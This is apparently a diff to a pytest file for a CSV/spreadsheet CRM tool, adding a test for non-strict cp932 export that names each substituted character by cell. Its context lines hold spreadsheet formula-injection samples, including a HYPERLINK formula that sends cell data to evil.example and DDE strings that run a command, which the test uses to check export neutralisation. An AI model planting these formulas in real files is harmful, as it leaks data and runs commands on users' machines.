@@ -12,6 +12,7 @@ import pytest
 from corpus import hostile
 from xlcrm.book import open_book
 from xlcrm.cli import main
+from xlcrm.csvio import read_csv
 
 HEAD = "顧客ID,区分,氏名,電話番号,郵便番号,メール,備考\r\n"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"詳細")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -76,7 +77,6 @@ def test_formulas_in_a_csv_stay_text_in_the_book_and_are_neutralised_on_export(t
     cells = [r[10] for r in csv.reader(io.StringIO(out.read_bytes().decode("cp932"), newline=""))][-len(FORMULAS):]
     assert all(c.startswith("'") for c in cells), cells  # no cell a spreadsheet would run
     # and the export reads back to what was typed
-    from xlcrm.csvio import read_csv
     assert read_csv(out)["備考"].tolist()[-len(FORMULAS):] == [f.strip() for f in FORMULAS]
 
 
@@ -92,9 +92,14 @@ def test_odd_text_round_trips_through_import_book_and_export(tmp_path, capsys):
         got = b.read_raw("顧客")["備考"].tolist()[-len(odd):]
     assert got[:3] == odd[:3] and got[3] in ("改行\r\nあり", "改行\nあり")
     out = tmp_path / "e.csv"
-    code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932")
+    code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932",
+                        "--strict")
     assert code == 2  # cp932 cannot hold 𠮷 or emoji: named by sheet, row and column, nothing written
     assert "sheet '顧客' row 8 column '備考' (K8)" in err and not out.exists()
+    code, stdout, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out), "--encoding", "cp932")
+    assert code == 0, err   # without --strict: the nearest cp932 character, each substitution named by its cell
+    assert "𠮷 → 吉: 顧客!K8" in stdout and "😀 → 〓: 顧客!K8" in stdout
+    assert read_csv(out)["備考"].tolist()[-2] == "秘匿 吉野家〓〓〓〓"   # the family's joiners are dropped
     code, _, err = _run(capsys, "export", str(book), "--table", "顧客", "--out", str(out))
     assert code == 0 and hostile.LONG in out.read_text(encoding="utf-8-sig")
 
